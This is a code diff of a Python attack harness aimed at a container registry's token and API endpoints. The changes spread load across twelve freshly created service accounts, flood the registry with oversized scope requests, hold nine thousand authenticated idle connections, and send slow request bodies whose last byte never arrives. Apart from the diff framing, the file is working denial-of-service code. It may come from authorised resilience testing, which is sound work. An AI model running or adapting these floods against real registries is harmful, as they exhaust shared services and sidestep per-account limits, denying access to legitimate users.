@@ -28,7 +28,6 @@ class Order:
     addresses: list[str]
     seconds: float
     service: str
-    tcr_id: str
     # A name that logs in with a chosen password, and an access key's id: neither is a secret.
     victim: str
     victim_key_id: str
@@ -44,18 +43,19 @@ class Attack:
         self.order = order
         self.target = Target(order.host, order.port, order.addresses)
         self.answers: Counter[str] = Counter()
-        self._robot = ""
+        self._robots: list[str] = []
 
     async def prepare(self) -> None:
-        """Makes the attacker a service account that may do nothing but in one namespace."""
-        permissions = [{"Resource": "team", "Actions": ["tcr:PullRepository"]}]
-        fields = {"RegistryId": self.order.own_tcr_id, "Name": "robot", "Permissions": permissions}
-        connection = await self.target.connect(self.order.addresses[0])
-        connection.writer.write(tc3(self.order.key_id, self.order.key_secret, "CreateServiceAccount", fields))
-        _, body = await connection.answer_with_body()
-        connection.close()
-        made = json.loads(body)["Response"]
-        self._robot = basic(made["Name"], made["Password"])
+        """Makes the attacker service accounts that may pull from one namespace: each is let in so often."""
+        for number in range(12):
+            permissions = [{"Resource": "team", "Actions": ["tcr:PullRepository"]}]
+            fields = {"RegistryId": self.order.own_tcr_id, "Name": f"robot-{number}", "Permissions": permissions}
+            connection = await self.target.connect(self.order.addresses[0])
+            connection.writer.write(tc3(self.order.key_id, self.order.key_secret, "CreateServiceAccount", fields))
+            _, body = await connection.answer_with_body()
+            connection.close()
+            made = json.loads(body)["Response"]
+            self._robots.append(basic(made["Name"], made["Password"]))
 
     # -- how requests are sent
 
@@ -119,10 +119,10 @@ class Attack:
         await self._repeat(requests, Pace(300), 40)
 
     async def anonymous_scopes(self) -> None:
-        """Asks without a log-in for 61 scopes of a kilobyte, which no registry can have."""
+        """Asks without a log-in for 61 scopes, of a kilobyte or of the longest name that a registry can have."""
         prebuilt = []
-        for _ in range(8):
-            scopes = "&".join(f"scope=repository:{secrets.token_hex(500)}:pull" for _ in range(61))
+        for size in [500, 120] * 4:
+            scopes = "&".join(f"scope=repository:team/{secrets.token_hex(size)}:pull" for _ in range(61))
             prebuilt.append(get(f"/token?service={self.order.service}&{scopes}"))
         await self._repeat(itertools.cycle(prebuilt), Pace(300), 16)
 
@@ -181,23 +181,22 @@ class Attack:
         await self._hold(10_000, 1000, begin)
 
     async def proved_idle(self) -> None:
-        """Ten thousand connections that carry one good log-in each and are kept."""
-        request = get(f"/token?service={self.order.own_service}", self._robot)
+        """Nine thousand connections that carry one good log-in each and are kept: they give way to nobody."""
+        requests = itertools.cycle([get(f"/token?service={self.order.own_service}", robot) for robot in self._robots])
 
         async def begin(connection: Connection) -> None:
-            connection.writer.write(request)
+            connection.writer.write(next(requests))
 
-        await self._hold(10_000, 600, begin)
+        await self._hold(9_000, 600, begin)
 
     async def held_bodies(self) -> None:
         """Bodies of which all but the last byte comes."""
-        scope = tc3(self.order.victim_key_id, "x", "CreateInstanceToken", b" " * 60_000)
         prebuilt = itertools.cycle(
             [
                 post("/token", f"service={self.order.service}&x=".encode() + b"x" * 60_000),
                 post("/", f"Action=CreateInstanceToken&SecretId={self.order.victim_key_id}&Signature=x&x=".encode() + b"x" * 60_000),
                 post("/", b"Action=GetAuthorizationToken&AccessKeyId=LTAIunknownEXAMPLE&Signature=x&x=" + b"x" * 60_000),
-                scope,
+                tc3(self.order.victim_key_id, "x", "CreateInstanceToken", b" " * 60_000),
             ]
         )
 
@@ -230,7 +229,7 @@ class Attack:
         prebuilt = []
         for number in range(8):
             scopes = "&".join(f"scope={quote(f'repository:team-{number}/{secrets.token_hex(60)}:pull,push')}" for _ in range(62))
-            prebuilt.append(get(f"/token?service={self.order.own_service}&{scopes}", self._robot))
+            prebuilt.append(get(f"/token?service={self.order.own_service}&{scopes}", self._robots[0]))
         await self._repeat(itertools.cycle(prebuilt), Pace(300), len(self.order.addresses))
 
 
